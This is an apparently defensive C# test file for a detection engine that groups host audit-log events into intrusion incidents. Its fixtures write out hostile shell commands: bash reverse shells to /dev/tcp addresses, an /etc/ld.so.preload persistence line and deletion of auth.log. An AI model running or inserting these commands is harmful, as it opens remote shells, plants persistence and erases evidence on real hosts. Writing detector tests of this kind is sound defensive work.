using Palisade.Protocol;

namespace Palisade.Engine.Tests.Incidents;

/// <summary>The audit log of a host names no host, unless it was told to.</summary>
public sealed class NamelessHostTests
{
    private static StoryLog Intrusion(string? host) => new StoryLog()
        .Ran(0, host, "app", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
        .Ran(40, host, "root", "/usr/bin/bash", ["bash", "-c", "echo /tmp/x.so > /etc/ld.so.preload"])
        .Ran(95, host, "root", "/usr/bin/bash", ["bash", "-c", "rm -f /var/log/auth.log"]);

    [Theory]
    [InlineData(null)]
    [InlineData("db-01")]
    public void What_programs_did_on_one_host_is_one_story(string? host)
    {
        var incidents = Intrusion(host).Run();
        var incident = Assert.Single(incidents);
        Assert.Equal(FindingLevel.Critical, incident.Level);
        Assert.True(incident.Steps.Count() >= 3, string.Join(", ", incident.Steps.Select(s => s.Rule.Name)));
    }

    [Fact]
    public void Hosts_whose_logs_come_by_different_sources_have_stories_of_their_own()
    {
        var incidents = new StoryLog()
            .Ran(0, null, "app", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], source: 3)
            .Ran(9, null, "app", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"], source: 4).Run();
        Assert.Equal(2, incidents.Count);
    }

    /// <summary>Files of several days that are read side by side, or an agent that catches up.</summary>
    [Theory]
    [InlineData(null, 3)]
    [InlineData("db-01", 3)]
    [InlineData(null, 36)]
    public void Days_that_come_mixed_are_a_story_each(string? host, int hoursApart)
    {
        var mixed = new List<(uint Source, string Line)>();
        for (var i = 0; i < 50; i++)
            foreach (var hours in (int[])[0, hoursApart])
                mixed.AddRange(new StoryLog().Ran(hours * 3_600 + i, host, "app", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], parent: $"{i}").ByTime);
        var incidents = StoryLog.Run(mixed, out _);
        Assert.InRange(incidents.Count, 1, 2);
        Assert.InRange(incidents.Sum(i => i.Count), 100, 400);
    }
}
